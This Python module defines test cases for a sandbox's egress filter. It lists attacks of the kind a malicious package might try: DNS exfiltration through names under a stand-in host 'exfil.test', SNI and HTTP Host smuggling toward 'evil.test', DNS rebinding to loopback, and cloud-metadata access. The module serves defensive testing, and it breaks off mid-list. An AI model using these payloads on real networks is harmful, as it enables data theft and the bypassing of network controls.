"""What a malicious package tries, and what an honest one must still be able to do. Data: how each is played and judged is in
play.py.

Each attack carries a mark of its own in what it sends; an attack has reached something when its mark is found in what a
server got or a name server was asked, or when anything at all arrived where nothing may. Its control is the same action
outside of a sandbox (BARE), or an honest twin in the same session (the name of an entry that must work).
"""

from dataclasses import dataclass, field

import hello as tls
from stage import (names, ABSTRACT, API_V4, GATEWAY_V4, HOST_LAN, HOST_V4, HOST_V6, NEIGHBOUR_V4, NEIGHBOUR_V6, OWN, REFUSED, place_name)

BARE = "bare"
ALL, PROXIED = ("netns", "socket", "gateway"), ("socket", "gateway")
RESOLVER = "203.0.114.53"
OUT_V4, OUT_V6 = "93.184.216.34", "2606:4700::1111"


@dataclass(eq=False)
class Attack:
    name: str
    what: str
    make: object                # (mark, where) -> job, or [jobs] one after the other; where.kind is a link's or "bare"
    group: str = ""
    requirement: str = "egress-denied-everything-else"
    expect: str = "blocked"     # "works": must get through. "reached": it does, and the README says so
    known: dict = field(default_factory=dict)   # link -> why it is reached there all the same
    links: tuple = ALL
    why_not: str = ""           # why on no other link
    runtimes: tuple = ("bwrap", "podman")
    control: object = BARE      # or the name of an entry that works; or a function as `make`, played bare
    as_root: bool = False       # the control
    kernel: bool = False        # the control needs something that not every kernel has
    places: tuple = ()          # (address, port) where nothing at all may arrive
    elsewhere: bool = False     # at other places its mark may arrive
    asked: str = ""             # the mark may arrive, but no server may understand that this name is asked for
    sees: object = None         # (what the attacker saw, where) -> what is wrong with it, or None
    audit: tuple = ()           # (host or None, port or None) of a denial that has to be written down
    alone: bool = False         # nothing else meanwhile
    quick: bool = True          # part of the selection for every push


ATTACKS = []
GROUPS = {}


def group(name, what, **defaults):
    GROUPS[name] = what

    def add(title, text, make, **more):
        ATTACKS.append(Attack(title, text, make, name, **{**defaults, **more}))
    return add


# ---- jobs ----

def flow(host, port, *steps, **more):
    return {"do": "flow", "host": host, "port": port, "steps": list(steps), **more}


def direct(host, port, *steps, **more):
    return flow(host, port, *steps, way="direct", **more)


def send(data, chunk=None):
    return {"send": data.hex(), **({"chunk": chunk} if chunk else {})}


def until(data, ms=8000):
    return {"await": data.hex(), "ms": ms}


SETTLE = {"settle": 8000}


def hail(mark):
    """To an echo server."""
    return send(mark.encode() + b"\r\n\r\n"), SETTLE


def raw(*words, **more):
    return {"do": "raw", "words": [str(word) for word in words], **more}


def udp(host, port, payload, **more):
    return {"do": "udp", "host": host, "port": port, "payload": payload.hex(), **more}


def shell(command, **more):
    return {"do": "shell", "command": command, **more}


# ---- what an attacker should see ----

def received(seen):
    return bytes.fromhex(seen.get("received") or "")


def is_answered(seen):
    return b"npxc-world" in received(seen)


def closed(seen, where):
    """Refused without a word, or with one: before the connection, or by its end; never left hanging."""
    if seen.get("error"):
        return None if seen["error"] != "silence" else "no refusal, only silence"
    if is_answered(seen):
        return "answered by a server"
    return None if seen.get("end") not in ("open", "silence") else "neither answered nor ended"


def refused(seen, where):
    """The decision is heard where the link has words for it."""
    if where.kind == "netns":
        return closed(seen, where)
    if seen.get("stage") != "connect" or seen.get("error") in (None, "200"):
        return "no refusal of the CONNECT: %s" % seen.get("error")
    return None if "npxc-error:" in (seen.get("status") or "").lower() else "no Npxc-Error in %r" % seen.get("status")


def unreachable(*errors):
    def judge(seen, where):
        wanted = errors if where.kind == "netns" else ("ENETUNREACH", "EHOSTUNREACH", "ECONNREFUSED", "EADDRNOTAVAIL", "ETIMEDOUT")
        return None if seen.get("error") in wanted else "%s, not %s" % (seen.get("error") or seen.get("end"), " or ".join(wanted))
    return judge


quickly_refused = unreachable("ECONNREFUSED")


def ruled_or_no_route(seen, where):
    """netns: accepted by the kernel and then reset. Else there is no route."""
    return closed(seen, where) if where.kind == "netns" else unreachable()(seen, where)


def alert(seen, where):
    if seen.get("error"):
        return None if seen["error"] in ("403",) else "not even a connection: %s" % seen["error"]
    data = received(seen)
    if b"npxc-world" in data:
        return "answered by a server"
    if not tls.is_denied(data) and seen.get("end") not in ("ECONNRESET", "EPIPE"):
        return "no alert access_denied: %s, %s" % (data[-20:].hex(), seen.get("end"))
    return None if seen.get("end") not in ("open", "silence") else "the connection stays open"


def http_refused(after=0):
    """403 in the place of an answer; `after`: answers to honest requests before that."""
    def judge(seen, where):
        if seen.get("error"):
            return "not even a connection: %s" % seen["error"]
        data = received(seen)
        if data.count(b"npxc-world") > after:
            return "answered by a server"
        if b"HTTP/1.1 403" not in data:
            return "no 403: %r, %s" % (data[-80:], seen.get("end"))
        return None if seen.get("end") not in ("open", "silence") else "the connection stays open"
    return judge


def status(*wanted):
    def judge(seen, where):
        data = received(seen)
        if any(data.startswith(b"HTTP/1.1 %d" % code) for code in wanted) and b"npxc-error:" in data.lower():
            return None if seen.get("end") not in ("open", "silence") else "the connection stays open"
        return "%r, not %s" % (data[:60], " or ".join(map(str, wanted)))
    return judge


def errno(*wanted):
    def judge(seen, where):
        got = seen.get("signal") or seen.get("error")
        return None if got in wanted else "%s at %s, not %s" % (got, seen.get("step"), " or ".join(wanted))
    return judge


def silent(seen, where):
    """A datagram that nobody answers."""
    return None if seen.get("error") else "answered"


# ---- straight at an address ----

add = group("address", "straight at an address, past every name", sees=ruled_or_no_route)

for title, host, port, text in (
        ("v4-out", OUT_V4, 443, "TCP to an address outside, on a port that some rule has"),
        ("v6-out", OUT_V6, 443, "the same with IPv6"),
        ("listed-literal", API_V4, 80, "the address of an allowed name instead of the name"),
        ("ip-rule-other-port", "203.0.114.7", 7000, "an allowed address on another port"),
        ("cidr-neighbour", "203.0.114.127", 7000, "the address just below an allowed range"),
        ("metadata", "169.254.169.254", 80, "a cloud's metadata service"),
        ("host-own", HOST_V4, 443, "a service on all addresses of the host, by its public one"),
        ("host-own-v6", HOST_V6, 443, "the same with IPv6"),
        ("host-own-lan", HOST_LAN, 443, "the same by its private one"),
        ("neighbour", NEIGHBOUR_V4, 443, "another machine of the host's network"),
        ("neighbour-v6", NEIGHBOUR_V6, 443, "the same with IPv6"),
        ("mapped", "::ffff:" + OUT_V4, 443, "an IPv4 address in IPv6 clothes"),
        ("synthetic-never-given", "198.18.77.77", 443, "an address of those that names get inside, of no name"),
        ("synthetic-never-given-v6", "fd6e:7078:63::4d4d", 443, "the same with IPv6"),
):
    add(title, text, lambda mark, where, host=host, port=port: direct(host, port, *hail(mark)), places=((host.removeprefix("::ffff:"), port),)
        if host not in (API_V4,) else (), audit=(host.removeprefix("::ffff:"), port) if host not in ("::ffff:" + OUT_V4,) else (OUT_V4, port))
for title, host, port, text in (
        ("v4-out-closed", OUT_V4, 6666, "TCP to an address outside, on a port that no rule has"),
        ("v6-out-closed", OUT_V6, 6666, "the same with IPv6"),
        ("host-service", HOST_V4, 7102, "a service on all addresses of the host, on a port that no rule has"),
        ("host-service-v6", HOST_V6, 7102, "the same with IPv6"),
        ("host-loopback", "127.0.0.1", 7101, "a service on the host's loopback"),
        ("host-loopback-v6", "::1", 7103, "the same with IPv6"),
):
    add(title, text, lambda mark, where, host=host, port=port: direct(host, port, *hail(mark)), places=((host, port),), sees=quickly_refused)
for title, host, text in (
        ("loopback-ruled", "127.0.0.1", "the guest's own loopback, on a port that npxc listens on"),
        ("loopback-ruled-2", "127.0.0.2", "another address of it"),
        ("loopback-ruled-v6", "::1", "the same with IPv6"),
        ("any-ruled", "0.0.0.0", "no address at all, which means oneself"),
        ("mapped-loopback-ruled", "::ffff:127.0.0.1", "loopback in IPv6 clothes"),
):
    add(title, text, lambda mark, where, host=host: direct(host, 443, *hail(mark)), sees=closed,
        requirement="egress-own-address-refused", places=(("127.0.0.1", 443), ("127.0.0.2", 443), ("::1", 443)))
add("alias-other-port", "the alias of the host's loopback, on another port", lambda mark, where: flow("host.npxc.internal", 7101, *hail(mark)),
    control=lambda mark, where: direct("127.0.0.1", 7101, *hail(mark)), places=(("127.0.0.1", 7101),), sees=closed)
add("alias-ruled-port", "the same on a port that other rules have", lambda mark, where: flow("host.npxc.internal", 7000, *hail(mark)),
    control=lambda mark, where: direct("127.0.0.1", 7000, *hail(mark)), places=(("127.0.0.1", 7000),), sees=refused)
add("source-address", "with the address of an allowed machine as its own", lambda mark, where: raw("flow", "203.0.114.7" if where.kind == "netns" else "-", OUT_V4, 443, mark),
    sees=lambda seen, where: None if seen.get("step") != "done" or not is_answered(seen) else "answered", places=((OUT_V4, 443),),
    links=("netns",), why_not="no address to choose there", audit=(OUT_V4, 443))
for word, text in (("mptcp", "multipath TCP"), ("fastopen", "data in the first segment (TCP Fast Open)")):
    add(word, text, lambda mark, where, word=word: raw("flow", "-", OUT_V4, 443, mark, word), places=((OUT_V4, 443),),
        sees=lambda seen, where: None if not is_answered(seen) else "answered")
add("host-by-gateway", "a service on all addresses of the host, by the address next to the guest",
    lambda mark, where: direct("@GATEWAY@" if where.kind == "gateway" else GATEWAY_V4 if where.kind != "bare" else HOST_V4, 7102, *hail(mark)),
    known={"gateway": "a host-only network lets the guest reach what the host offers to all"}, sees=quickly_refused)
add("host-by-gateway-udp", "the same with UDP",
    lambda mark, where: udp("@GATEWAY@" if where.kind == "gateway" else GATEWAY_V4 if where.kind != "bare" else HOST_V4, 7102, mark.encode()),
    known={"gateway": "as with TCP"}, sees=silent)
add("host-by-link-local", "the same by the IPv6 address that the cable itself gives",
    lambda mark, where: direct("@LINKLOCAL@", 7102, *hail(mark)), control=lambda mark, where: direct(HOST_V6, 7102, *hail(mark)),
    links=("gateway",), why_not="there is no cable", known={"gateway": "as with IPv4"}, sees=closed)

add = group("udp", "datagrams")
for title, host, port, text in (
        ("udp-out", OUT_V4, 7000, "UDP to an address outside, on a port that some rule has"),
        ("udp-out-v6", OUT_V6, 7000, "the same with IPv6"),
        ("udp-out-closed", OUT_V4, 6666, "on a port that no rule has"),
        ("udp-host-service", HOST_V4, 7102, "UDP to a service of the host"),
        ("udp-host-own", HOST_V4, 7000, "the same on a port that some rule has"),
        ("udp-quic-address", OUT_V4, 443, "QUIC to an address"),
):
    add(title, text, lambda mark, where, host=host, port=port: udp(host, port, mark.encode()), places=((host, port),), sees=silent,
        audit=() if port in (6666, 7102) else (host, port))
add("udp-quic-name", "QUIC to an allowed name, which nobody could look into", lambda mark, where: udp("api.test", 443, mark.encode()), sees=silent)
add("udp-name", "UDP to an allowed name", lambda mark, where: udp("api.test", 7000, mark.encode()), sees=silent)
add("udplite", "UDP-Lite", lambda mark, where: raw("flow", "-", OUT_V4, 7000, mark, "udplite"), kernel=True,
    control=lambda mark, where: raw("socket", 2, 2, 136), sees=lambda seen, where: "answered" if is_answered(seen) else None)
add("sctp", "SCTP", lambda mark, where: raw("flow", "-", OUT_V4, 443, mark, "sctp"), kernel=True,
    control=lambda mark, where: raw("socket", 2, 1, 132), sees=lambda seen, where: "answered" if is_answered(seen) else None)

# ---- what the kernel offers beside TCP and UDP ----

NO_FAMILY = ("EAFNOSUPPORT", "EPERM", "EACCES", "ESOCKTNOSUPPORT")
add = group("kernel", "what the kernel offers beside TCP and UDP", as_root=True)
for title, family, kind, text in (
        ("vsock", 40, 1, "AF_VSOCK, which no network namespace confines"),
        ("packet", 17, 3, "AF_PACKET: frames"),
        ("algorithm", 38, 5, "AF_ALG"),
        ("xdp", 44, 3, "AF_XDP"),
        ("bluetooth", 31, 3, "Bluetooth"),
        ("tipc", 30, 1, "TIPC"),
):
    add("socket-" + title, text, lambda mark, where, family=family, kind=kind: raw("socket", family, kind, 0), sees=errno(*NO_FAMILY), kernel=True)
add("socket-vsock-pair", "AF_VSOCK with socketpair", lambda mark, where: raw("socketpair", 40, 1), sees=errno(*NO_FAMILY),
    control=lambda mark, where: raw("socket", 40, 1, 0), kernel=True)
add("socket-raw-icmp", "a raw socket for ICMP", lambda mark, where: raw("socket", 2, 3, 1), sees=errno("EPERM", "EACCES"))
add("socket-raw-tcp", "a raw socket for TCP", lambda mark, where: raw("socket", 2, 3, 6), sees=errno("EPERM", "EACCES"))
add("ping", "an unprivileged ping", lambda mark, where: raw("ping", OUT_V4) if where.kind != "bare" else raw("ping", OUT_V4, "raw"),
    sees=lambda seen, where: None if seen.get("step") != "done" else "answered")
add("io-uring", "sockets without socket(2)", lambda mark, where: raw("io_uring"), sees=errno("ENOSYS", "EPERM"), kernel=True)
add("other-architecture", "socket(2) by the table of another architecture", lambda mark, where: raw("foreign", 40), kernel=True,
    sees=errno("SIGSYS", "EAFNOSUPPORT", "EPERM", "ENOSYS"))
add("new-namespace", "a network namespace with all capabilities over it", lambda mark, where: raw("unshare"), sees=errno("EPERM", "ENOSPC", "EINVAL"))
add("join-namespace", "another process's network namespace", lambda mark, where: raw("setns", "/proc/1/ns/net"), sees=errno("EPERM", "EACCES", "ENOENT"),
    control=lambda mark, where: raw("setns", "/proc/self/ns/net"))
add("take-address", "gives itself the address of an allowed machine", lambda mark, where: raw("address", "203.0.114.7"), sees=errno("EPERM", "EACCES"),
    control=lambda mark, where: raw("address", "127.9.9.9"))
add("take-route", "deletes npxc's route", lambda mark, where: raw("route"), sees=errno("EPERM", "EACCES"), links=("netns",),
    why_not="there is no route", control=lambda mark, where: raw("address", "127.9.9.10"))

# ---- sockets of the file system and beside it ----

add = group("socket", "the host's UNIX sockets")
add("abstract", "an abstract socket of the host", lambda mark, where: raw("unix", ABSTRACT, mark), sees=errno("ECONNREFUSED", "EPERM", "EACCES"))
for title, path in (("mounted", "service.sock"), ("mounted-deep", "deep/service.sock")):
    add(title, "a socket in a directory that is mounted", lambda mark, where, path=path: raw("unix", "%s/%s" % (where.shared, path), mark),
        sees=lambda seen, where: None if seen.get("step") == "connect" else "not refused at connect: %s" % seen)

# ---- the ports that npxc holds inside ----

BUSY = ("EADDRINUSE", "EACCES")


def all_busy(seen, where):
    *taken, free = seen
    wrong = ["%s: %s" % (words, one) for words, one in zip(where.asked, taken) if one.get("error") not in BUSY]
    if free.get("step") != "done":
        wrong.append("a port of no rule cannot be taken either: %s" % free)
    return "; ".join(wrong) or None


add = group("port", "the ports that npxc holds inside", links=("netns",), why_not="it holds none there")
for title, words in (("plain", ()), ("reuseaddr", ("reuseaddr",)), ("reuseport", ("reuseport",)), ("both", ("reuseaddr", "reuseport"))):
    add("take-port-" + title, "listens on them itself%s" % (" with " + " and ".join(words) if words else ""),
        lambda mark, where, words=words: [raw("listen", address, port, *words) for address in ("0.0.0.0", "::", "198.18.0.1", "203.0.114.7")
                                          for port in (443, 7000, 5432)] +
        [raw("listen", "0.0.0.0", port, "udp", *words) for port in (5432, 53)] + [raw("listen", "0.0.0.0", 6666, *words)],
        control=lambda mark, where, words=words: raw("listen", "127.0.0.1", 6667, *words), sees=all_busy)

# ---- names ----

add = group("name", "names on no rule", requirement="egress-no-lookup-unlisted", sees=refused)
for title, host, port, text in (
        ("unlisted", "evil.test", 443, "a name on no rule"),
        ("unlisted-port", "api.test", 5432, "an allowed name on a port that others have"),
        ("suffix-itself", "wild.test", 443, "the bare suffix of a wildcard"),
        ("suffix-glued", "notwild.test", 443, "a name that merely ends in it"),
        ("below-exact", "below.api.test", 443, "a name below an exact one"),
        ("listed-as-prefix", "api.test.evil.test", 443, "an allowed name in front of another"),
):
    add(title, text, lambda mark, where, host=host, port=port: flow(host, port, send(tls.hello(mark, host.encode())) if port == 443 else send(mark.encode()), SETTLE),
        audit=(host, port if port != 443 else None))
add("unlisted-port-closed", "an allowed name on a port that no rule has", lambda mark, where: flow("api.test", 6666, *hail(mark)),
    sees=lambda seen, where: (quickly_refused if where.kind == "netns" else refused)(seen, where), requirement="egress-denied-everything-else")
add("lookup", "a lookup alone, the data in the name", lambda mark, where: {"do": "lookup", "name": mark + ".exfil.test"},
    sees=lambda seen, where: None if seen.get("error") in ("ENOTFOUND", "EAI_AGAIN", "ECONNREFUSED") else "%s" % seen.get("error"))


def no_answer(seen, where):
    """netns: NXDOMAIN, or some other refusal, and no address. Else nobody is there."""
    if where.kind != "netns":
        return None if seen.get("error") else "answered"
    data = received(seen)
    if seen.get("error"):
        return None if seen["error"] == "silence" and where.may_be_silent else "error %s" % seen["error"]
    return None if len(data) >= 12 and data[3] & 15 in (1, 3, 4, 5) and data[6:8] == b"\0\0" else "answered: %s" % data.hex()


add = group("dns", "data in questions", requirement="egress-no-lookup-unlisted", sees=no_answer)
for title, server, kind, text in (
        ("dns-resolver", RESOLVER, "A", "a question to the host's resolver"),
        ("dns-public", "8.8.8.8", "A", "a question to a public resolver"),
        ("dns-public-v6", "2001:4860:4860::8888", "AAAA", "the same with IPv6"),
        ("dns-txt", "8.8.8.8", "TXT", "TXT"),
        ("dns-any", "8.8.8.8", "ANY", "ANY"),
        ("dns-mx", "8.8.8.8", "MX", "MX"),
        ("dns-https", "8.8.8.8", "HTTPS", "HTTPS records"),
):
    add(title, text, lambda mark, where, server=server, kind=kind: udp(server, 53, names.query(mark + ".exfil.test", kind)), audit=(".exfil.test", None))
add("dns-tcp", "a question over TCP", lambda mark, where: direct("8.8.8.8", 53, send(len(q := names.query(mark + ".exfil.test")).to_bytes(2, "big") + q), {"bytes": 14, "ms": 3000}),
    sees=lambda seen, where: None if where.kind != "netns" and seen.get("error") or received(seen)[5:6] and received(seen)[5] & 15 == 3 else "%s" % seen)
add("dns-gateway", "a question to the network's own resolver", lambda mark, where: udp("@GATEWAY@" if where.kind == "gateway" else RESOLVER, 53, names.query(mark + ".exfil.test")),
    sees=silent, links=("gateway",), why_not="the network has none",
    known={"gateway": "the runtime's resolver answers where the network has one"})
add("dns-below-exact", "a name below an allowed one", lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".api.test")))
add("dns-srv-made-up", "SRV of a made-up service of an allowed name", lambda mark, where: udp("8.8.8.8", 53, names.query("_" + mark + "._tcp.api.test", "SRV")),
    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
add("dns-txt-below", "TXT of a name below an allowed one", lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".api.test", "TXT")),
    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
add("dns-two-questions", "two questions, the first of them allowed", lambda mark, where: udp("8.8.8.8", 53, two_questions(mark)),
    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
add("dns-bytes", "bytes in a name that no host name has", lambda mark, where: udp("8.8.8.8", 53, names.query("", raw=b"\x0a" + mark[:7].encode() + b"\0\n\"" + b"\x05exfil\x04test\0")),
    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")))
add("dns-capitals", "capitals", lambda mark, where: udp("8.8.8.8", 53, names.query(mark.upper() + ".EXFIL.test")))
add("dns-option", "data in an EDNS option of an allowed question", lambda mark, where: udp("8.8.8.8", 53, with_option(mark)),
    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")), sees=lambda seen, where: None)
add("dns-listed-txt", "TXT of an allowed name", lambda mark, where: udp("8.8.8.8", 53, names.query("api.test", "TXT")),
    control=lambda mark, where: udp("8.8.8.8", 53, names.query(mark + ".exfil.test")),
    sees=lambda seen, where: None if seen.get("error") or received(seen)[6:8] == b"\0\0" else "answered")


def two_questions(mark):
    first, second = names.query("api.test"), names.query(mark + ".exfil.test")
    return first[:4] + b"\0\x02" + first[6:] + second[12:]


def with_option(mark):
    option = b"\xff\x01" + len(mark).to_bytes(2, "big") + mark.encode()
    return names.query("api.test")[:10] + b"\0\x01" + names.query("api.test")[12:] + b"\0\0\x29\x04\xd0\0\0\0\0" + len(option).to_bytes(2, "big") + option


# ---- what a name may stand for ----

def to_place(host):
    return lambda mark, where: flow(host, 443, send(tls.hello(mark, host.encode())), {"settle": 16000})


add = group("stands-for", "an allowed name that stands for what no name may", requirement="egress-private-refused", sees=refused)
for word, (_, place) in REFUSED.items():
    add("at-" + word, "stands for %s" % REFUSED[word][0], to_place(place_name(word)), places=((place, 443),), audit=(place_name(word), 443))
for word, (_, place) in OWN.items():
    add("at-" + word, "stands for %s: the host itself or its neighbour" % OWN[word][0], to_place(place_name(word)), places=((place, 443),),
        requirement="egress-own-address-refused", audit=(place_name(word), 443))
add("alias-lan", "is an alias of a private machine's name", to_place("alias-lan.test"), places=(("10.1.2.4", 443),), audit=("alias-lan.test", 443))
add("many", "stands for twenty private addresses", to_place("many.test"), places=tuple(("10.1.2.%d" % n, 443) for n in range(40, 60)), audit=("many.test", 443))
def rebound(wait):
    def make(mark, where):
        if where.kind == "bare":
            return [{"do": "lookup", "name": "rebind.test"}, to_place("rebind.test")(mark, where)]
        return [to_place("rebind.test")(mark, where), {"do": "wait", "ms": wait}, to_place("rebind.test")(mark, where)]
    return make


add("rebind", "stands for a public address when it is judged, and for loopback right after that", rebound(0), places=(("127.0.0.1", 443),),
    elsewhere=True, sees=None)
add("rebind-later", "the same, when what was judged has long been forgotten", rebound(6000), places=(("127.0.0.1", 443),), elsewhere=True,
    sees=lambda seen, where: refused(seen[2], where), audit=("rebind.test", 443))
add("rebind-lan", "stands for a private address first and for loopback after that", to_place("rebind-lan.test"),
    places=(("127.0.0.1", 443), ("10.1.2.4", 443)), audit=("rebind-lan.test", 443))
for host, text in (("nowhere.test", "does not exist"), ("silent.test", "has a name server that never answers"), ("blackhole.test", "stands for a machine that never answers")):
    add("at-" + host.partition(".")[0], text + ": an end within 15 s", to_place(host), requirement="egress-denied-everything-else", control="tls",
        sees=lambda seen, where: "after %d ms" % seen["ms"] if seen["ms"] > 15000 else refused(seen, where), audit=(host, 443))

# ---- TLS ----

add = group("tls", "TLS for another name than the one decided about", requirement="egress-sni-agrees", sees=alert)


def tls_flow(*data, port=443, chunk=None, early=False):
    def make(mark, where):
        parts = [part(mark) if callable(part) else part for part in data]
        if early and where.kind in PROXIED:
            return flow("api.test", port, SETTLE, early=b"".join(parts).hex())
        return flow("api.test", port, *(send(part, chunk) for part in parts), SETTLE)
    return make


for title, text, data in (
        ("sni-other", "the name of another virtual host of the same machine", lambda m: tls.hello(m, b"evil.test")),
        ("sni-none", "no name", lambda m: tls.hello(m, names=b"")),
        ("sni-empty", "an empty name", lambda m: tls.hello(m, b"")),
        ("sni-two-names", "two names in one extension", lambda m: tls.hello(m, names=tls.server_name(b"api.test", b"evil.test"))),
        ("sni-two-extensions", "two extensions", lambda m: tls.hello(m, names=tls.server_name(b"api.test") + tls.server_name(b"evil.test"))),
        ("sni-two-extensions-reversed", "the same the other way round", lambda m: tls.hello(m, names=tls.server_name(b"evil.test") + tls.server_name(b"api.test"))),
        ("sni-extension-late", "a second one behind all others", lambda m: tls.hello(m, after=(tls.server_name(b"evil.test"),))),
        ("sni-nul", "a NUL behind the allowed name", lambda m: tls.hello(m, b"api.test\0.evil.test")),
        ("sni-newline", "a line break in it", lambda m: tls.hello(m, b"api.test\nevil.test")),
        ("sni-glued", "a name that ends in the allowed one", lambda m: tls.hello(m, b"xapi.test")),
        ("sni-below", "a name below the allowed one", lambda m: tls.hello(m, b"evil.api.test")),
        ("sni-address", "an address for a name", lambda m: tls.hello(m, b"203.0.114.10")),
        ("sni-other-kind", "the name of another kind than a host's", lambda m: tls.hello(m, names=tls.server_name(b"evil.test", kind=1))),
        ("ech", "an encrypted hello behind the right name", lambda m: tls.hello(m, after=(tls.extension(tls.ECH, b"\0" * 64),))),
        ("ech-draft", "the same of an older draft", lambda m: tls.hello(m, after=(tls.extension(tls.OLD_ECH, b"\0" * 64),))),
        ("esni", "an encrypted name behind the right one", lambda m: tls.hello(m, after=(tls.extension(tls.ESNI, b"\0" * 64),))),
        ("records-of-7", "another name, in records of 7 bytes", lambda m: tls.hello(m, b"evil.test", size=7)),
        ("records-of-1", "another name, in records of 1 byte", lambda m: tls.hello(m, b"evil.test", size=1)),
        ("60-kb", "a hello of 60 kB", lambda m: tls.hello(m, b"evil.test", pad=60000)),
        ("60-kb-right", "a hello of 60 kB with the right name", lambda m: tls.hello(m, pad=60000)),
        ("behind-alert", "behind a harmless record", lambda m: b"\x15\x03\x01\0\x02\x01\x00" + tls.hello(m, b"evil.test")),
        ("behind-empty-record", "behind an empty record", lambda m: b"\x16\x03\x01\0\0" + tls.hello(m, b"evil.test")),
        ("behind-change-cipher", "behind a change_cipher_spec", lambda m: tls.CHANGE_CIPHER + tls.hello(m, b"evil.test")),
        ("behind-data", "behind a record of data", lambda m: b"\x17\x03\x01\0\x01x" + tls.hello(m, b"evil.test")),
        ("behind-garbage", "behind bytes that are no TLS", lambda m: b"\n" + tls.hello(m, b"evil.test")),
        ("two-hellos-one-record", "a second hello in the record of the first", lambda m: tls.records(tls.message("first") + tls.message(m, b"evil.test"))),
        ("ssl-2", "a hello of SSL 2.0", lambda m: tls.version_2(m)),
        ("plain-on-443", "plain HTTP on the port of TLS", lambda m: b"GET /%s HTTP/1.1\r\nHost: api.test\r\n\r\n" % m.encode()),
        ("opaque-on-443", "neither", lambda m: b"SSH-2.0-%s\r\n" % m.encode()),
):
    add(title, text, tls_flow(data), audit=("api.test", 443), **({"sees": closed} if title in ("plain-on-443", "opaque-on-443", "ssl-2", "behind-garbage") or title.startswith("behind") else {}))
add("two-hellos", "a second hello right behind the first, when no server asks for it", tls_flow(lambda m: tls.hello("first") + tls.hello(m, b"evil.test")),
    asked="evil.test", control="tls", sees=None)
add("sni-byte-by-byte", "another name, one byte per write", tls_flow(lambda m: tls.hello(m, b"evil.test"), chunk=1))
add("sni-before-200", "another name, sent before the flow is there", tls_flow(lambda m: tls.hello(m, b"evil.test"), early=True))
add("sni-on-other-port", "another name, on a port of no certain kind", tls_flow(lambda m: tls.hello(m, b"evil.test"), port=7001))
add("sni-none-on-other-port", "no name, on a port of no certain kind", tls_flow(lambda m: tls.hello(m, names=b""), port=7001))
add("records-of-1-on-other-port", "another name in records of 1 byte, on a port of no certain kind", tls_flow(lambda m: tls.hello(m, b"evil.test", size=1), port=7001))
add("ssl-2-on-other-port", "a hello of SSL 2.0, on a port of no certain kind", tls_flow(lambda m: tls.version_2(m), port=7001), audit=("api.test", 7001))
add("data-first-on-other-port", "a record of data before the hello, on a port of no certain kind", tls_flow(lambda m: b"\x17\x03\x01\0\x01x" + tls.hello(m, b"evil.test"), port=7001), sees=closed)
add("no-tls-answer", "another protocol, after a hello that its server answers in that protocol", lambda mark, where: flow(
    "api.test", 7001, send(tls.hello("first")), {"bytes": 1, "ms": 2000}, send(b"\r\n" + mark.encode() + b"\r\n"), SETTLE), audit=("api.test", 7001), sees=None)
add("tls-on-80", "TLS on the port of HTTP", lambda mark, where: flow("api.test", 80, send(tls.hello(mark)), {"settle": 2000}), sees=closed)
add("sni-of-wildcard", "the name of another host below the same suffix",
    lambda mark, where: flow("one.wild.test", 443, send(tls.hello(mark, b"two.wild.test")), SETTLE))

RETRY = bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c")
for title, text, first, second in (
        ("retry-other", "another name in the hello after a HelloRetryRequest", lambda m: tls.hello("first"), lambda m: tls.hello(m, b"evil.test")),
        ("retry-none", "no name in it", lambda m: tls.hello("first"), lambda m: tls.hello(m, names=b"")),
        ("retry-ech", "an encrypted hello in it", lambda m: tls.hello("first"), lambda m: tls.hello(m, after=(tls.extension(tls.ECH, b"\0" * 64),))),
        ("retry-change-cipher", "another name behind a change_cipher_spec", lambda m: tls.hello("first"), lambda m: tls.CHANGE_CIPHER + tls.hello(m, b"evil.test")),
        ("retry-change-cipher-twice", "behind two of them", lambda m: tls.hello("first"), lambda m: tls.CHANGE_CIPHER * 2 + tls.hello(m, b"evil.test")),
        ("retry-split", "another name in records of 7 bytes", lambda m: tls.hello("first"), lambda m: tls.hello(m, b"evil.test", size=7)),
        ("retry-opaque", "no hello at all", lambda m: tls.hello("first"), lambda m: b"\x17\x03\x03" + len(m).to_bytes(2, "big") + m.encode()),
):
    add(title, text, lambda mark, where, first=first, second=second:
        flow("api.test", 445, send(first(mark)), until(RETRY), send(second(mark)), {"finish": True} if where.kind == "bare" else {"closed": 4000}),
        audit=("api.test", 445), control=lambda mark, where, first=first, second=second:
        flow("api.test", 445, send(first(mark)), until(RETRY), send(second(mark)), {"finish": True}))
add("retry-pipelined", "another name in a hello sent before the retry is asked for", tls_flow(lambda m: tls.hello("first"), lambda m: tls.hello(m, b"evil.test"), port=445),
    control=lambda mark, where: flow("api.test", 445, send(tls.hello("first") + tls.hello(mark, b"evil.test")), {"bytes": 60}))
add("retry-same-record", "the same in one record", lambda mark, where: flow("api.test", 445, send(tls.records(tls.message("first") + tls.message(mark, b"evil.test"))), SETTLE))

# ---- HTTP ----

add = group("http", "HTTP for another host than the one decided about", requirement="egress-host-agrees")


def text_of(text):
    """An evil request in it names the mark: {m}."""
    return lambda mark: text.replace("{m}", mark).encode("latin-1")


def http_flow(port, *parts):
    """Each part is sent when the one before it has been answered."""
    def make(mark, where):
        steps = []
        for number, part in enumerate(parts):
            if number:
                steps.append(until(b"path=/first"))
            steps.append(send(part(mark)))
        return flow("api.test", port, *steps, SETTLE)
    return make


GOOD = "GET /first HTTP/1.1\r\nHost: api.test\r\n\r\n"
EVIL = "GET /{m} HTTP/1.1\r\nHost: evil.test\r\n\r\n"
HTTP = (
    ("host-other", "another host", EVIL),
    ("host-none", "no host", "GET /{m} HTTP/1.1\r\n\r\n"),
    ("host-empty", "an empty host", "GET /{m} HTTP/1.1\r\nHost:\r\n\r\n"),
    ("host-two", "two hosts", "GET /{m} HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n\r\n"),
    ("host-two-reversed", "the same the other way round", "GET /{m} HTTP/1.1\r\nHost: evil.test\r\nHost: api.test\r\n\r\n"),
    ("host-list", "two hosts in one field", "GET /{m} HTTP/1.1\r\nHost: api.test, evil.test\r\n\r\n"),
    ("host-folded", "another host in a folded line", "GET /{m} HTTP/1.1\r\nHost: api.test\r\n evil.test\r\n\r\n"),
